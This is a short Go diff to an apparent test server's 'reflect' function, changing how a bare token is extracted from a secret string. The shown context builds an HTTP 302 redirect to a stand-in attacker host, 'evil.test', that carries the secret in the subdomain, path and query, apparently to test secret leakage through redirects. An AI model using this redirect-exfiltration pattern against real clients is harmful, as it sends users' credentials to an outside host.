@@ -150,7 +150,7 @@ func (m *modelServer) reflect(w http.ResponseWriter, how, secret string) {
 		return
 	}
 	defer conn.Close()
-	_, bare, _ := strings.Cut(secret, " ")
+	bare := secret[strings.LastIndexByte(secret, ' ')+1:]
 	switch how {
 	case "location":
 		fmt.Fprintf(conn, "HTTP/1.1 302 Found\r\nLocation: http://%s.evil.test/%s?x=%s\r\nContent-Length: 0\r\n\r\n", bare, bare, bare)
